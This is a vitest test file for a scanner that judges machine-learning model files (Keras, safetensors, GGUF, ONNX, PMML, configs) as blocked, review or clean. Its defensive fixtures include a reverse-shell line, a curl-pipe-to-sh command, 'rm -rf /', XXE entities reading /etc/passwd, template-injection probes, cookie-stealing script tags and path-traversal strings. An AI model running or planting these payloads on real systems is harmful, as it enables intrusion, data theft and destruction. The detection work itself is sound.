import { describe, expect, it } from "vitest";
import { ByteWindow } from "../bytes/byte-window.ts";
import { JsonObject, parseJson } from "../bytes/json.ts";
import { Malformed } from "../bytes/malformed.ts";
import { walkMessage } from "../bytes/protobuf.ts";
import { artefactOf, contextOf, inspectAll, verdictOf } from "../testing/artefacts.ts";
import { judgeText } from "./metadata.ts";
import { leadsOut } from "./path-safety.ts";
import { shown } from "./reasons.ts";

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const concat = (...parts: readonly (Uint8Array | readonly number[])[]): Uint8Array =>
  Uint8Array.from(parts.flatMap((part) => [...part]));
const u32 = (value: number): number[] => [value & 255, (value >>> 8) & 255, (value >>> 16) & 255, (value >>> 24) & 255];
const u64 = (value: number): number[] => [...u32(value % 4_294_967_296), ...u32(Math.floor(value / 4_294_967_296))];
const judged = async (path: string, content: Uint8Array | string, beside: Readonly<Record<string, string>> = {}) => {
  const reasons = await inspectAll(artefactOf(path, content), contextOf(beside));
  return { verdict: verdictOf(reasons), rules: reasons.map(({ rule }) => rule), reasons };
};

/** A field of a protocol buffer. */
const field = (number: number, content: Uint8Array | readonly number[] | string): number[] => {
  const body = typeof content === "string" ? bytesOf(content) : content;
  return [...varint(number * 8 + 2), ...varint(body.length), ...body];
};
const varint = (value: number): number[] =>
  value < 128 ? [value] : [(value % 128) + 128, ...varint(Math.floor(value / 128))];

describe("Keras configurations", () => {
  const layer = (object: unknown) =>
    judged("model.keras!/config.json", JSON.stringify({ class_name: "Sequential", config: { layers: [object] } }));

  it.each([
    [{ module: "builtins", class_name: "eval", config: {} }, "blocked"],
    [{ module: "os", class_name: "system", config: "id" }, "blocked"],
    [{ module: "builtins", class_name: "function", config: "exec" }, "blocked"],
    [{ module: "subprocess", class_name: "function", config: "Popen" }, "blocked"],
    [{ module: "keras.utils", class_name: "get_file", config: { origin: "https://a.example/x" } }, "blocked"],
    [{ module: "keras.config", class_name: "function", config: "enable_unsafe_deserialization" }, "blocked"],
    [{ module: "keras.src.saving.saving_lib", class_name: "load_model", config: {} }, "blocked"],
    [{ module: "torch", class_name: "load", config: {} }, "blocked"],
    [{ class_name: "__lambda__", config: { code: "4wEA" } }, "blocked"],
    [{ class_name: "Lambda", config: { function: "lambda x: eval('1')" } }, "blocked"],
    [{ class_name: "Lambda", config: { function: ["4wEA", null, null], function_type: "lambda" } }, "blocked"],
    [{ class_name: "Custom>Lambda", config: {} }, "blocked"],
    [{ module: "keras.layers", class_name: "TorchModuleWrapper", config: { module: "gAJ9" } }, "blocked"],
    [{ module: "keras.layers", class_name: "TFSMLayer", config: { filepath: "/srv/other" } }, "blocked"],
    [{ class_name: "TFOpLambda", config: { function: "io.write_file" } }, "blocked"],
    [{ class_name: "TensorFlowOpLayer", config: { node_def: "name: 'a' op: 'WriteFile'" } }, "blocked"],
    [{ module: "keras.layers", class_name: "StringLookup", config: { vocabulary: "/etc/passwd" } }, "blocked"],
    [{ module: "keras.layers", class_name: "StringLookup", config: { vocabulary: "https://a.example/v" } }, "blocked"],
    [{ class_name: "Lambda", config: { function: "scale", function_type: "function" } }, "review"],
    [{ module: "acme.layers", class_name: "Wide", registered_name: "acme>Wide", config: {} }, "review"],
    [{ class_name: "acme>Dense2", config: {} }, "review"],
    [{ module: "keras.layers", class_name: "StringLookup", config: { vocabulary: "words.txt" } }, "review"],
    [{ module: "keras.layers", class_name: "TFSMLayer", config: { filepath: "saved" } }, "review"],
    [
      {
        module: "keras.layers",
        class_name: "Dense",
        config: {
          activation: "relu",
          kernel_initializer: { module: "keras.initializers", class_name: "GlorotUniform", config: {} },
        },
      },
      "clean",
    ],
    [{ module: "keras.src.ops.numpy", class_name: "Add", config: {} }, "clean"],
    [{ class_name: "TFOpLambda", config: { function: "math.add" } }, "clean"],
    [{ module: "builtins", class_name: "function", config: "relu" }, "clean"],
    [{ module: "keras.layers", class_name: "StringLookup", config: { vocabulary: ["a", "b"] } }, "clean"],
  ])("MF3: %j is %s", async (object, verdict) => {
    expect((await layer(object)).verdict).toBe(verdict);
  });

  it("MF3: both are seen where a key stands twice", async () => {
    const text =
      '{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","class_name":"Dense","config":{"function":["4wEA"]}}]}}';
    const { verdict, rules } = await judged("m.json", text);
    expect(verdict).toBe("blocked");
    expect(rules).toContain("keras-repeated");
  });
});

describe("safetensors", () => {
  const file = (header: string, data = 8, length?: number): Uint8Array =>
    concat(u64(length ?? bytesOf(header).length), bytesOf(header), new Uint8Array(data));
  const tensor = (from: number, to: number, shape = [to - from], dtype = "U8"): string =>
    JSON.stringify({ dtype, shape, data_offsets: [from, to] });

  it.each([
    [`{"a":${tensor(0, 8)}}`, "clean", []],
    [`{"a":${tensor(0, 4)},"b":${tensor(4, 8)}}`, "clean", []],
    [`{"a":${tensor(0, 8)},"b":${tensor(4, 8)}}`, "failed", ["malformed"]],
    [`{"a":${tensor(0, 9)}}`, "failed", ["malformed"]],
    [`{"a":${tensor(0, 8, [3])}}`, "failed", ["malformed"]],
    [`{"a":${tensor(0, 8, [4_294_967_296, 4_294_967_296])}}`, "failed", ["malformed"]],
    [`{"a":${tensor(8, 0)}}`, "failed", ["malformed"]],
    [`{"a":{"dtype":"U8","shape":[-8],"data_offsets":[0,8]}}`, "failed", ["malformed"]],
    [`{"a":${tensor(0, 4)}}`, "review", ["safetensors-trailing"]],
    [`{"a":${tensor(4, 8)}}`, "review", ["safetensors-gap"]],
    [`{"a":${tensor(0, 8)},"a":${tensor(0, 8)}}`, "failed", ["safetensors-repeated", "malformed"]],
    [`{"a":${tensor(0, 8, [8], "X8")}}`, "review", ["safetensors-dtype"]],
    [`{"__metadata__":{"a":1},"a":${tensor(0, 8)}}`, "failed", ["malformed"]],
    ["[]", "failed", ["malformed"]],
    ["{", "failed", ["malformed"]],
  ])("MF5: %s is %s", async (header, verdict, rules) => {
    const found = await judged("m.safetensors", file(header));
    expect([found.verdict, found.rules]).toEqual([verdict, rules]);
  });

  it.each([0, 7, 1e6, 2 ** 40, 2 ** 53])("MF5: a header that says it has %d bytes", async (length) => {
    expect((await judged("m.safetensors", file("{}", 8, length))).verdict).toBe("failed");
  });
});

describe("GGUF", () => {
  const head = (tensors: number, entries: number, version = 3): Uint8Array =>
    concat(bytesOf("GGUF"), u32(version), u64(tensors), u64(entries));
  const text = (value: string): number[] => [...u64(bytesOf(value).length), ...bytesOf(value)];

  it.each([
    ["no entries", head(0, 0), "clean"],
    ["a billion entries", head(0, 1e9), "failed"],
    ["a billion tensors", head(1e9, 0), "failed"],
    ["2^60 entries", head(0, 2 ** 60), "failed"],
    ["a text longer than the file", concat(head(0, 1), u64(2 ** 40), [65]), "failed"],
    ["a list of 2^61 numbers", concat(head(0, 1), text("a"), u32(9), u32(4), u64(2 ** 61)), "failed"],
    ["a list of 2^61 texts", concat(head(0, 1), text("tokenizer.ggml.tokens"), u32(9), u32(8), u64(2 ** 61)), "failed"],
    ["a value of no type", concat(head(0, 1), text("a"), u32(99)), "failed"],
    [
      "lists in lists",
      concat(head(0, 1), text("a"), ...Array.from({ length: 9 }, () => [...u32(9), ...u32(9), ...u64(1)])),
      "failed",
    ],
    ["another version", head(0, 0, 9), "review"],
    [
      "a harmless template",
      concat(head(0, 1), text("tokenizer.chat_template"), u32(8), text("{{ messages[0].role }}")),
      "clean",
    ],
    ["a template", concat(head(0, 1), text("tokenizer.chat_template"), u32(8), text("{{ ''.__class__ }}")), "blocked"],
    [
      "a second template",
      concat(head(0, 1), text("tokenizer.chat_template.tool_use"), u32(8), text("{{ ''['__cla' ~ 'ss__'] }}")),
      "blocked",
    ],
    ["the format before", bytesOf("lmggxxxxxxxxxxxxxxxxxxxxxxxx"), "review"],
  ])("MF6: %s", async (_, bytes, verdict) => {
    expect((await judged("m.gguf", bytes)).verdict).toBe(verdict);
  });
});

describe("protocol buffers and ONNX", () => {
  const walk = (bytes: Uint8Array): Promise<void> =>
    walkMessage(new ByteWindow(artefactOf("x", bytes), () => {}), 0, bytes.length, () => undefined);

  it.each([
    ["a length beyond the end", [0x0a, 0x05, 1]],
    ["a length of 2^63", [0x0a, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]],
    ["a number of eleven bytes", [0x08, ...new Array<number>(11).fill(0x80), 1]],
    ["a number that does not end", [0x08, 0x80]],
    ["a field of number 0", [0x02, 0x00]],
    ["a group", [0x0b, 0x0c]],
  ])("MF7: %s is malformed", async (_, bytes) => {
    await expect(walk(Uint8Array.from(bytes))).rejects.toThrow(Malformed);
  });

  it("MF7: graphs in graphs without end are malformed", async () => {
    let graph: number[] = field(4, "Add");
    for (let depth = 0; depth < 60; depth++) graph = field(1, [...field(4, "If"), ...field(5, field(6, graph))]);
    expect((await judged("m.onnx", Uint8Array.from(field(7, graph)))).verdict).toBe("failed");
  });

  const node = (operator: string, domain = ""): number[] => field(1, [...field(4, operator), ...field(7, domain)]);
  it.each([
    [node("Add"), "clean"],
    [node("Gelu", "com.microsoft"), "clean"],
    [node("Magic", "acme"), "review"],
    [node("PythonOp", "com.microsoft"), "blocked"],
    [field(1, [...field(4, "If"), ...field(5, field(6, node("PyOp", "x")))]), "blocked"],
    [field(5, field(13, [...field(1, "location"), ...field(2, "C:\\x")])), "blocked"],
    [field(15, field(1, field(13, [...field(1, "location"), ...field(2, "../x")]))), "blocked"],
  ])("MF8: %#: a graph is %s", async (graph, verdict) => {
    expect((await judged("m.onnx", Uint8Array.from([8, 8, ...field(7, graph)]))).verdict).toBe(verdict);
  });

  it("MF8: weights beside the model are read, and clean", async () => {
    const graph = field(5, field(13, [...field(1, "location"), ...field(2, "w.bin")]));
    expect((await judged("m.onnx", Uint8Array.from(field(7, graph)), { "w.bin": "w" })).verdict).toBe("clean");
  });

  const operator = (name: string, ...more: readonly number[]): number[] =>
    field(1, [...field(1, "n"), ...field(2, name), ...more]);
  const print = field(5, [...field(1, "output_stream"), ...field(2, field(2, "file:///x"))]);
  const within = (name: string, self = "f"): number[] =>
    field(
      2,
      field(1, [
        ...field(1, [...field(1, self), ...field(2, field(1, "path"))]),
        ...field(3, [...field(1, "n"), ...field(2, name), ...field(3, "path:0")]),
      ]),
    );
  it.each([
    [operator("MatMul"), "clean"],
    [operator("PyFunc"), "blocked"],
    [operator("WriteFile"), "blocked"],
    [operator("PrintV2"), "clean"],
    [operator("PrintV2", ...print), "blocked"],
    [field(1, [...print, ...field(1, "n"), ...field(2, "PrintV2")]), "blocked"],
    [operator("AcmeOp"), "review"],
    [[...operator("f"), ...within("MatMul")], "clean"],
    [within("EagerPyFunc"), "blocked"],
    [within("ReadFile"), "review"],
    [operator("ReadFile"), "blocked"],
    [operator("TFRecordDataset"), "review"],
  ])("MF9: %#: a graph is %s", async (graph, verdict) => {
    expect((await judged("saved_model.pb", Uint8Array.from([8, 1, ...field(2, field(2, graph))]))).verdict).toBe(
      verdict,
    );
    expect((await judged("other.pb", Uint8Array.from(graph))).verdict).toBe(verdict);
  });

  it("MF8: values that ONNX keeps beside a model are clean, and no place for what leads out", async () => {
    // dims 2, of floats, named x, eight bytes
    const tensor = [0x08, 2, 0x10, 1, 0x42, 1, 0x78, 0x4a, 8, ...new Uint8Array(8)];
    const said = async (bytes: readonly number[]) => (await judged("input_0.pb", Uint8Array.from(bytes))).verdict;
    expect(await said(tensor)).toBe("clean");
    expect(await said([0x0a, 1, 0x73, 0x10, 1, 0x1a, tensor.length, ...tensor])).toBe("clean");
    const external = (place: string): readonly number[] => {
      const entry = [0x0a, 8, ...Buffer.from("location"), 0x12, place.length, ...Buffer.from(place)];
      return [0x10, 1, 0x6a, entry.length, ...entry, 0x70, 1];
    };
    expect(await said(external("weights"))).toBe("clean");
    expect(await said(external("../../etc/passwd"))).toBe("blocked");
    // No type, a field of another message, and cut.
    expect(await said([0x08, 2, 0x42, 1, 0x78])).toBe("review");
    expect(await said([...tensor, 0xfa, 1, 1, 0])).toBe("review");
    expect(await said(tensor.slice(0, -1))).toBe("review");
  });

  it("MF9: layers that Keras keeps beside a saved model are judged", async () => {
    const layer = JSON.stringify({ class_name: "Lambda", config: { function: ["4wEA", null, null] } });
    const bytes = Uint8Array.from(field(1, [...field(3, "root.layer"), ...field(4, layer)]));
    expect((await judged("keras_metadata.pb", bytes)).verdict).toBe("blocked");
  });

  it("MF7: offsets of a FlatBuffer that lead out are malformed", async () => {
    const tables = [u32(0), u32(2 ** 31), u32(9_999), u32(8)];
    for (const offset of tables)
      expect((await judged("m.tflite", concat(offset, bytesOf("TFL3"), new Uint8Array(8)))).verdict).toBe("failed");
  });
});

describe("XML", () => {
  const net = '<net name="n" version="11"><layers><layer id="0" type="Relu" version="opset1"/></layers></net>';
  it.each([
    ["m.xml", net, "clean"],
    [
      "m.xml",
      `<?xml version="1.0"?><!-- a --><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>${net}`,
      "blocked",
    ],
    ["m.xml", `<!DOCTYPE net SYSTEM "http://a.example/x.dtd">${net}`, "blocked"],
    ["m.xml", `<!DOCTYPE net SYSTEM "../x.dtd">${net}`, "blocked"],
    ["m.xml", `<!DOCTYPE net SYSTEM "net.dtd">${net}`, "review"],
    ["m.xml", `<!DOCTYPE net SYSTEM "net.dtd" [<!ENTITY x SYSTEM "net.txt">]>${net}`, "blocked"],
    ["m.xml", `<!DOCTYPE net [<!ENTITY % p PUBLIC "a" "http://a.example/x"> %p;]>${net}`, "blocked"],
    ["m.xml", `<!DOCTYPE net [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${net}`, "review"],
    ["m.xml", net.replace("opset1", "extension"), "review"],
    ["m.xml", net.replace('version="opset1"', 'version="opset1" path="../../x"'), "blocked"],
    ["m.pmml", '<PMML version="4.4"><Header/></PMML>', "clean"],
    ["m.pmml", '<PMML><Extension name="a" value="os.system(\'id\')"/></PMML>', "blocked"],
    ["m.pmml", "<PMML><Extension><script>x</script></Extension></PMML>", "blocked"],
    ["m.pmml", '<PMML><Apply function="com.acme.Fn"/></PMML>', "review"],
    ["m.pmml", "<PMML", "failed"],
    ["m.pmml", `<PMML>${"<a>".repeat(5_000)}`, "failed"],
  ])("MF10: %s %s is %s", async (path, text, verdict) => {
    expect((await judged(path, text)).verdict).toBe(verdict);
  });
});

describe("skops and configurations", () => {
  const schema = (module: string, name: string, more: object = {}) =>
    judged(
      "m.skops!/schema.json",
      JSON.stringify({ __class__: name, __module__: module, __loader__: "ObjectNode", ...more }),
    );
  it.each([
    ["sklearn.linear_model", "LogisticRegression", "clean"],
    ["numpy", "ndarray", "clean"],
    ["__main__", "Mine", "clean"],
    ["__main__", "mine", "review"],
    ["__main__", "Mine.method", "review"],
    ["acme", "Model", "review"],
    ["os", "system", "blocked"],
    ["builtins", "eval", "blocked"],
    ["builtins", "breakpoint", "blocked"],
  ])("MF11: %s.%s is %s", async (module, name, verdict) => {
    expect((await schema(module, name)).verdict).toBe(verdict);
  });

  it("MF11: a class of the loading program is for review where it is called", async () => {
    expect((await schema("__main__", "Mine", { __loader__: "ReduceNode" })).verdict).toBe("review");
    expect((await schema("__main__", "Mine", { __loader__: "FunctionNode" })).verdict).toBe("review");
  });

  it("MF11: functions and parts outside of the archive are seen", async () => {
    expect((await schema("builtins", "function", { content: { module_path: "os", function: "system" } })).verdict).toBe(
      "blocked",
    );
    expect((await schema("numpy", "ndarray", { file: "../x.npy" })).verdict).toBe("blocked");
    expect((await schema("operator", "methodcaller", { __loader__: "OperatorFuncNode" })).verdict).toBe("blocked");
  });

  it.each([
    ["config.json", { auto_map: { AutoModel: "modeling_x.X" } }, "review"],
    ["config.json", { auto_map: { AutoModel: "acme/other--modeling_x.X" } }, "review"],
    ["tokenizer_config.json", { auto_map: { AutoTokenizer: ["tok.T", null] } }, "review"],
    ["config.json", { custom_pipelines: { a: { impl: "pipe.P" } } }, "review"],
    ["config.json", { trust_remote_code: true }, "review"],
    ["config.json", { model: { _target_: "os.system" } }, "blocked"],
    ["config.json", { model: { _target_: "builtins.eval" } }, "blocked"],
    ["config.json", { model: { _target_: "acme.Model" } }, "review"],
    ["config.json", { model: { _target_: "torch.nn.Linear" } }, "clean"],
    ["tokenizer_config.json", { chat_template: "{{ ''.__class__ }}" }, "blocked"],
    ["tokenizer_config.json", { chat_template: [{ name: "default", template: "{{ ''.__class__ }}" }] }, "blocked"],
    ["tokenizer_config.json", { chat_template: { tool_use: "{{ ''.__class__ }}" } }, "blocked"],
    ["tokenizer_config.json", { chat_template: "{{ messages[0].role }}" }, "clean"],
    ["other.json", { deep: [{ text: "{{ ''.__class__.__mro__ }}" }] }, "blocked"],
    ["other.json", { text: "braces {{ that are no template" }, "clean"],
    ["other.json", { scripts: { clean: "rm -rf dist" } }, "blocked"],
    ["package.json", { scripts: { clean: "rm -rf dist" } }, "clean"],
    ["adapter_config.json", { base_model_name_or_path: "acme/base", peft_type: "LORA", r: 8 }, "clean"],
    ["config.json", { architectures: ["LlamaForCausalLM"], torch_dtype: "float16" }, "clean"],
  ])("MF12: %s with %j is %s", async (path, content, verdict) => {
    expect((await judged(path, JSON.stringify(content))).verdict).toBe(verdict);
  });

  it("MF12: says where remote code comes from, and names the code itself", async () => {
    const config = JSON.stringify({ auto_map: { AutoModel: "modeling_x.X" } });
    const [found] = (await judged("config.json", config, { "modeling_x.py": "print()" })).reasons;
    expect(found?.says).toBe("Loading it with remote code allowed runs modeling_x.X in modeling_x.py beside it.");
    expect((await judged("modeling_x.py", "print()", { "config.json": config })).rules).toEqual(["remote-code"]);
    expect((await judged("other.py", "print()", { "config.json": config })).verdict).toBe("review");
  });
});

describe("texts, paths, JSON", () => {
  const base64 = Buffer.from("import os; os.system('id > /tmp/x')").toString("base64");
  it.each([
    ["init", "__import__('os').popen('id')"],
    ["init", "exec(x)"],
    ["a", "subprocess.run(['id'])"],
    ["a", "pickle.loads(data)"],
    ["a", "().__class__.__base__.__subclasses__()"],
    ["a", "x.__class__.__mro__[1]"],
    ["a", "f.__globals__['os']"],
    ["a", "f.__init__.__globals__"],
    ["a", "curl https://a.example/x.sh | sh"],
    ["a", "rm -rf / --no-preserve-root"],
    ["a", "chmod +x run"],
    ["a", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["a", "<script>alert(1)</script>"],
    ["a", "<script>x=document.cookie</script>"],
    ["a", '<script async src="//example.com/x.js"></script>'],
    ["a", "<img src=x onerror=alert(1)>"],
    ["a", base64],
    ["a", "\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29"],
    ["callback_url", "http://a.example/seen"],
    ["webhookUrl", "https://a.example/seen"],
  ])("MF13: %s: %s is blocked", (key, text) => {
    expect(judgeText(key, text).map(({ verdict }) => verdict)).toContain("blocked");
  });

  it.each([
    ["description", "Call model.eval() before use, and torch.no_grad(); then compile it."],
    ["description", "Trained with subprocesses; the operating system is Linux."],
    ["homepage", "https://example.com/model?download=true"],
    ["readme", "The tokens are {{user}} and {{assistant}}; run it on a GPU."],
    ["license", "Apache-2.0 (see LICENSE)"],
    ["hash", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
    ["note", "We curl the weights into a tensor; remove rows with rm in the name."],
    ["example", "prompt: evaluate the essay (execution time 3 s)"],
    ["note", "Classes are called by self.__class__.__name__, or x.__class__ (see __init__)."],
    ["token", "<script>"],
    ["description", "What stands between `<script>` and `</script>` (or `<style>`) is left out: a=b."],
  ])("MF13: %s: %s is clean", (key, text) => {
    expect(judgeText(key, text)).toEqual([]);
  });

  it("MF13: a place to fetch from is for review", () => {
    expect(judgeText("download_url", "https://a.example/x").map(({ verdict }) => verdict)).toEqual(["review"]);
  });

  it("MF13: a long hostile text is read in linear time", () => {
    const before = process.cpuUsage();
    for (const part of ["rm -", "curl ", "<img ", "eval(", "a.b.c", "exec ( ", "A", "\\x41", "{{", "base64 "])
      judgeText("x", part.repeat(Math.floor(260_000 / part.length)));
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e6).toBeLessThan(4);
  });

  it.each([
    "/a",
    "\\a",
    "~/a",
    "C:\\a",
    "c:a",
    "../a",
    "a/../../b",
    "a\\..\\b",
    "file:///a",
    "http://a",
    "%2e%2e/a",
    "a/%2e%2e/b",
    "$HOME/a",
    "a\0b",
  ])("MF14: %j leads out", (path) => {
    expect(leadsOut(path)).toBe(true);
  });
  it.each(["a", "a/b.bin", "weights..bin", "a..b/c", ".hidden", "model-00001-of-00002.safetensors"])(
    "MF14: %s stays in",
    (path) => {
      expect(leadsOut(path)).toBe(false);
    },
  );

  it("MF16: reads JSON as Python does", () => {
    const object = parseJson(bytesOf('{"a": NaN, "a": [1e3, -Infinity, "\\u005f\\n"], "b": null}'));
    expect(object).toBeInstanceOf(JsonObject);
    if (!(object instanceof JsonObject)) return;
    expect(object.repeated).toEqual(["a"]);
    expect(object.get("a")).toEqual([1_000, Number.NEGATIVE_INFINITY, "_\n"]);
    expect(parseJson(Uint8Array.from([0xff, 0xfe, 0x31, 0]))).toBe(1);
    for (const text of ["", "{", "[1,]", '{"a"}', '"', "01", "[1] 2", "'a'", '"\\x"', "[".repeat(400)])
      expect(() => parseJson(bytesOf(text)), text).toThrow(Malformed);
    expect(() => parseJson(bytesOf("[1,2,3]"), { depth: 9, nodes: 3 })).toThrow(Malformed);
  });

  it("MF17: hostile text is escaped and cut", () => {
    expect(shown('a"b\n\u001b[31m\u202e')).toBe('a"b\\n\\u001b[31m\\u202e');
    expect(shown("x".repeat(500))).toHaveLength(81);
  });
});
